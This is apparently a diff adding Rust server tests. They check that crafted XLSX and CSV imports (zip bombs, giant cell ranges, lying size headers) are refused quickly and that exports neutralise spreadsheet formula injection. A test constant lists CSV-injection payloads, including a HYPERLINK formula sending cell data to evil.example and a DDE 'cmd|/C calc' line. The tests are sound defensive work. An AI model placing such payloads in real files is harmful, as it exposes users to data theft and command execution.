@@ -4,7 +4,9 @@
 
 #![allow(clippy::unwrap_used, clippy::expect_used)]
 
-use crate::common;
+use crate::{common, crafted};
+
+use std::time::{Duration, Instant};
 
 use common::{Srv, each_backend};
 use serde_json::{Value, json};
@@ -629,5 +631,341 @@ fn import_refuses_invisible_characters_and_stores_nfc() {
         let r = import(srv, &sup, "?mode=valid_rows", CSV, file).report();
         assert_eq!(counts(&r), (4, 1, 0, 3));
         assert_eq!(by_external(srv, &sup, "P002")["name"], "Zo\u{e9}");
+    });
+}
+
+/// Signs in a supervisor of a fresh institution (who may import).
+fn supervisor(srv: &Srv) -> String {
+    let admin = srv.admin();
+    let inst = srv.institution(&admin, "BJ01", true);
+    srv.user(&admin, "sup.a", &["supervisor"], &inst);
+    srv.login("sup.a", "Passw0rd-x")
+}
+
+/// Posts `file` and expects a quick refusal: 413 (too large) or 422 (malformed) problem+json
+/// whose first error is about the file with `code`.
+#[track_caller]
+fn refused(srv: &Srv, sup: &str, what: &str, ct: &str, file: Vec<u8>, status: u16, code: &str) {
+    let started = Instant::now();
+    let res = import(srv, sup, "", ct, file);
+    let took = started.elapsed();
+    let kind = if status == 413 {
+        "payload_too_large"
+    } else {
+        "validation"
+    };
+    let body = res.problem(status, kind);
+    assert_eq!(body["errors"][0]["field"], "file", "{what}: {body}");
+    assert_eq!(body["errors"][0]["code"], code, "{what}: {body}");
+    // Debug builds on a shared 2-core machine: generous, but far from building the cells.
+    assert!(took < Duration::from_secs(5), "{what} took {took:?}");
+}
+
+/// Issue 7 item 2 (CUS-13, PERF-6): workbooks of a few KB that would make the reader build
+/// the whole bounding box of their cells (A1 + Z200000: 5 million cells; A1 + XFD1048576:
+/// 17 billion, which aborts the process), unpack hundreds of MB, copy one shared string into
+/// every cell or hold one huge cell are refused at once, before any range is built: 413 for
+/// too large, 422 for malformed; nothing is imported and the server keeps serving.
+#[test]
+fn crafted_workbooks_are_refused_quickly_and_import_nothing() {
+    each_backend(|srv| {
+        let sup = supervisor(srv);
+        let sheet = "xl/worksheets/sheet1.xml";
+        let cases: Vec<(&str, Vec<u8>, u16, &str)> = vec![
+            (
+                "A1 + Z200000",
+                crafted::two_cells(199_999, 25),
+                413,
+                "too_many_rows",
+            ),
+            (
+                "A1 + XFD1048576",
+                crafted::two_cells(1_048_575, 16_383),
+                413,
+                "too_many_rows",
+            ),
+            (
+                "A1 + A200000 under a lying dimension",
+                crafted::lying_dimension(200_000),
+                413,
+                "too_many_rows",
+            ),
+            (
+                "a cell in column BM (the 65th)",
+                crafted::wide_row(64),
+                413,
+                "too_many_columns",
+            ),
+            (
+                "20 MiB of whitespace packed 1000:1",
+                crafted::whitespace_bomb(20),
+                413,
+                "compression_ratio",
+            ),
+            (
+                "a sheet declaring 3 GB",
+                crafted::declared_size(&crafted::lying_dimension(3), sheet, 3_000_000_000),
+                413,
+                "unpacked_too_large",
+            ),
+            (
+                "a sheet unpacking to more than it declares",
+                crafted::declared_size(&crafted::whitespace_bomb(1), sheet, 2000),
+                422,
+                "xlsx",
+            ),
+            (
+                "one 30,000-character shared string in 400 cells",
+                crafted::shared_string_fanout(200, 2, 30_000),
+                413,
+                "too_much_text",
+            ),
+            (
+                "the same string in the 21 cells of a row",
+                crafted::shared_string_fanout(1, 21, 30_000),
+                413,
+                "row_too_long",
+            ),
+            (
+                "shared strings announcing 4 billion strings",
+                crafted::unique_count(4_000_000_000),
+                413,
+                "too_many_strings",
+            ),
+            (
+                "a 2 MiB cell of rich-text runs",
+                crafted::huge_cell(2),
+                413,
+                "cell_too_large",
+            ),
+            (
+                "a 512 KiB text node",
+                crafted::long_text_node(512),
+                413,
+                "cell_too_large",
+            ),
+        ];
+        for (what, file, status, code) in cases {
+            refused(srv, &sup, what, XLSX, file, status, code);
+        }
+        assert_eq!(customers(srv, &sup, "")["total"], 0);
+
+        // The limits themselves are allowed (a customer in row 100,001 with a note in column
+        // BL, the 64th), and the server still imports.
+        let r = import(srv, &sup, "", XLSX, crafted::at_the_limits()).report();
+        assert_eq!(counts(&r), (1, 1, 0, 0), "{r}");
+        assert_eq!(customers(srv, &sup, "")["items"][0]["name"], "王五");
+    });
+}
+
+/// Issue 7 item 2: CSV files past the limits (more than 100,000 data rows, a line longer than
+/// 64 KB, more than 64 columns) are refused quickly with 413; a report lists at most 1,000
+/// problems (and counts them all), one per cell, so a few MB of wrong cells cannot grow into
+/// hundreds of MB of report.
+#[test]
+fn crafted_csv_files_are_refused_quickly_and_reports_stay_small() {
+    each_backend(|srv| {
+        let sup = supervisor(srv);
+        let cases: Vec<(&str, Vec<u8>, u16, &str)> = vec![
+            (
+                "200,001 rows",
+                crafted::csv_rows(200_000),
+                413,
+                "too_many_rows",
+            ),
+            (
+                "100,001 data rows",
+                crafted::csv_rows(100_001),
+                413,
+                "too_many_rows",
+            ),
+            (
+                "a 10 MB line",
+                crafted::csv_long_line(10 * 1024 * 1024 - 100),
+                413,
+                "row_too_long",
+            ),
+            (
+                "a 65 KB line",
+                crafted::csv_long_line(65 * 1024),
+                413,
+                "row_too_long",
+            ),
+            ("65 columns", crafted::csv_wide(65), 413, "too_many_columns"),
+        ];
+        for (what, file, status, code) in cases {
+            refused(srv, &sup, what, CSV, file, status, code);
+        }
+        assert_eq!(customers(srv, &sup, "")["total"], 0);
+
+        // 100,000 rows are allowed; their 200,000 problems are counted, 1,000 listed.
+        let r = import(srv, &sup, "", CSV, crafted::csv_rows(100_000)).report();
+        assert_eq!(counts(&r), (100_000, 0, 0, 100_000));
+        assert_eq!(r["error_count"], 200_000, "{}", r["error_count"]);
+        let listed = problems(&r);
+        assert_eq!(listed.len(), 1000);
+        assert_eq!(listed[0], p(2, "name", "required"));
+        assert_eq!(listed[999], p(501, "gender", "unknown_value"));
+
+        // A list cell of 1,000 unknown values is one problem, not 1,000.
+        let r = import(srv, &sup, "", CSV, crafted::csv_all_wrong(1, 1000)).report();
+        let on_categories = problems(&r)
+            .into_iter()
+            .filter(|(_, field, _)| field == "categories")
+            .count();
+        assert_eq!(on_categories, 1, "{r}");
+        assert_eq!(r["error_count"], r["errors"].as_array().unwrap().len());
+        assert_eq!(customers(srv, &sup, "")["total"], 0);
+    });
+}
+
+/// What a spreadsheet would run as a formula (OWASP "CSV injection"): `=`, `+`, `-`, `@`, and a
+/// leading tab or carriage return before one.
+const FORMULAS: [&str; 6] = [
+    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")",
+    "+SUM(1,2)",
+    "@SUM(1+1)*cmd",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r\n=1+1",
+];
+
+/// Issue 7 item 3 (CUS-13, X-6): customers whose free-text fields (name, street, occupation,
+/// tags, notes) hold formulas. The CSV export starts each such cell with `'` so that a
+/// spreadsheet shows it as text; the XLSX export writes strings, never formulas; both files
+/// import back to the values stored (an import trims cells, as it always has).
+#[test]
+fn exports_neutralise_formulas_and_reimport_unchanged() {
+    each_backend(|srv| {
+        let sup = supervisor(srv);
+        for (i, f) in FORMULAS.iter().enumerate() {
+            let tag = format!("{}1+{i}", ['=', '+', '-', '@'][i % 4]);
+            // One-line fields refuse tabs and line breaks (the text rule); notes keep them.
+            let line: String = f.chars().filter(|c| !c.is_control()).collect();
+            let occupation: String = line.chars().take(50).collect();
+            srv.post(
+                "/api/v1/customers",
+                &sup,
+                json!({"kind": "individual", "name": line, "notes": f, "occupation": occupation,
+                    "address": {"street": line}, "tags": [tag],
+                    "external_ids": [{"system": "his", "external_id": format!("F{i}")}]}),
+            )
+            .ok(201);
+        }
+        let stored: Vec<Value> = (0..FORMULAS.len())
+            .map(|i| by_external(srv, &sup, &format!("F{i}")))
+            .collect();
+        let text = |v: &Value| match v {
+            Value::Array(items) => items
+                .iter()
+                .map(|t| t.as_str().unwrap())
+                .collect::<Vec<_>>()
+                .join(";"),
+            other => other.as_str().unwrap_or_default().to_string(),
+        };
+        let fields = |c: &Value| {
+            [
+                ("name", text(&c["name"])),
+                ("street", text(&c["address"]["street"])),
+                ("occupation", text(&c["occupation"])),
+                ("tags", text(&c["tags"])),
+                ("notes", text(&c["notes"])),
+            ]
+        };
+
+        // CSV: every cell that starts like a formula is quoted with '.
+        let res = export(srv, &sup, "?unmasked=true");
+        assert_eq!(res.status, 200);
+        let body = res.body.strip_prefix(b"\xEF\xBB\xBF").unwrap().to_vec();
+        let rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(body.as_slice())
+            .records()
+            .map(|r| r.unwrap().iter().map(str::to_string).collect())
+            .collect();
+        assert_eq!(rows.len(), 1 + FORMULAS.len());
+        let col = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
+        let external = col("外部编号");
+        for row in &rows {
+            for cell in row {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "unquoted formula {cell:?} in {row:?}"
+                );
+            }
+        }
+        for (i, c) in stored.iter().enumerate() {
+            let row = rows
+                .iter()
+                .find(|r| r[external] == format!("F{i}"))
+                .unwrap();
+            for (field, value) in fields(c) {
+                let header = match field {
+                    "name" => "姓名",
+                    "street" => "地址",
+                    "occupation" => "职业",
+                    "tags" => "标签",
+                    _ => "备注",
+                };
+                assert_eq!(row[col(header)], format!("'{value}"), "{field} of F{i}");
+            }
+        }
+        // It imports back to the values stored, not with a ' in front.
+        let r = import(srv, &sup, "?mode=valid_rows", CSV, res.body).report();
+        assert_eq!(problems(&r), vec![]);
+        assert_eq!(counts(&r), (6, 0, 6, 0));
+        for (i, before) in stored.iter().enumerate() {
+            let after = by_external(srv, &sup, &format!("F{i}"));
+            for ((field, b), (_, a)) in fields(before).into_iter().zip(fields(&after)) {
+                assert_eq!(a, b.trim(), "{field} of F{i} after the CSV round trip");
+            }
+        }
+
+        // XLSX: the same cells are strings, unquoted, and no cell is a formula.
+        use calamine::Reader;
+        let res = export(srv, &sup, "?format=xlsx&unmasked=true");
+        let mut book = calamine::Xlsx::new(std::io::Cursor::new(res.body.clone())).unwrap();
+        let formulas = book.worksheet_formula("客户").unwrap();
+        assert!(
+            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+            "{formulas:?}"
+        );
+        let range = book.worksheet_range("客户").unwrap();
+        let sheet: Vec<Vec<calamine::Data>> = range.rows().map(<[_]>::to_vec).collect();
+        let header: Vec<String> = sheet[0].iter().map(|d| d.to_string()).collect();
+        let at = |name: &str| header.iter().position(|h| h == name).unwrap();
+        let after: Vec<Value> = (0..FORMULAS.len())
+            .map(|i| by_external(srv, &sup, &format!("F{i}")))
+            .collect();
+        for (i, c) in after.iter().enumerate() {
+            let row = sheet
+                .iter()
+                .find(|r| r[at("外部编号")] == calamine::Data::String(format!("F{i}")))
+                .unwrap();
+            for (field, value) in fields(c) {
+                let header = match field {
+                    "name" => "姓名",
+                    "street" => "地址",
+                    "occupation" => "职业",
+                    "tags" => "标签",
+                    _ => "备注",
+                };
+                assert_eq!(
+                    row[at(header)],
+                    calamine::Data::String(value.clone()),
+                    "{field} of F{i}"
+                );
+            }
+        }
+        let r = import(srv, &sup, "?mode=valid_rows", XLSX, res.body).report();
+        assert_eq!(counts(&r), (6, 0, 6, 0));
+        for (i, before) in after.iter().enumerate() {
+            let again = by_external(srv, &sup, &format!("F{i}"));
+            assert_eq!(
+                fields(before),
+                fields(&again),
+                "F{i} after the XLSX round trip"
+            );
+        }
     });
 }
